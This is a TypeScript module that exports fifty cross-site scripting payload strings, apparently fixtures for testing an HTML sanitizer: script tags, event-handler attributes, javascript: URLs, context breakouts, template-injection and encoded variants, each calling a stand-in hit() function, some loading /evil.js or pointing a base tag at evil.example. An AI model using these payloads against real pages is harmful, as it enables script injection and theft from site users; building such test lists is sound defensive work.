/** Fifty texts that a page which takes text for markup would carry out. `hit` is what each of them calls. */

const bodies: ReadonlyArray<string> = [
  `<script>hit()</script>`,
  `<script src=/evil.js></script>`,
  `<img src=x onerror=hit()>`,
  `<svg onload=hit()>`,
  `<svg><script>hit()</script></svg>`,
  `<iframe srcdoc="<script>parent.hit()</script>">`,
  `<body onload=hit()>`,
  `<details open ontoggle=hit()>x</details>`,
  `<input autofocus onfocus=hit()>`,
  `<video><source onerror=hit()></video>`,
  `<a href="javascript:hit()">x</a>`,
  `<object data="javascript:hit()">`,
  `<embed src="javascript:hit()">`,
  `<form><button formaction="javascript:hit()">x</button></form>`,
  `<math><mtext><style><img src=x onerror=hit()></style></mtext></math>`,
  `<template><script>hit()</script></template>`,
  `<link rel=stylesheet href=/evil.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:hit()">`,
  `<base href="https://evil.example/">`,
  `<style>@import "/evil.css"</style>`,
  `<noscript><p title="</noscript><img src=x onerror=hit()>">`,
  `<xmp><img src=x onerror=hit()></xmp>`,
  `<marquee onstart=hit()>x</marquee>`,
  `<audio src=x onerror=hit()>`,
  `<select><img src=x onerror=hit()></select>`
]

/** What breaks out of attributes, scripts, styles, comments and templates. */
const breaks: ReadonlyArray<string> = [
  `"><img src=x onerror=hit()>`,
  `'><img src=x onerror=hit()>`,
  `" onmouseover="hit()" x="`,
  `' autofocus onfocus='hit()`,
  `</script><script>hit()</script>`,
  `</style><script>hit()</script>`,
  `</title><script>hit()</script>`,
  `</textarea><script>hit()</script>`,
  `--><script>hit()</script>`,
  `]]><script>hit()</script>`,
  `javascript:hit()`,
  `data:text/html,<script>hit()</script>`,
  `\${hit()}`,
  `{{constructor.constructor('hit()')()}}`,
  `<%= hit() %>`,
  `#{hit()}`,
  `');hit();//`,
  `";hit();//`,
  `\\u003cimg src=x onerror=hit()\\u003e`,
  `&lt;img src=x onerror=hit()&gt;`,
  `&#60;script&#62;hit()&#60;/script&#62;`,
  `%3Cscript%3Ehit()%3C/script%3E`,
  `<scr<script>ipt>hit()</scr</script>ipt>`,
  `<IMG SRC=x ONERROR=hit()>`,
  `\u202E<img src=x onerror=hit()>`
]

export const scriptPayloads: ReadonlyArray<string> = [...bodies, ...breaks]
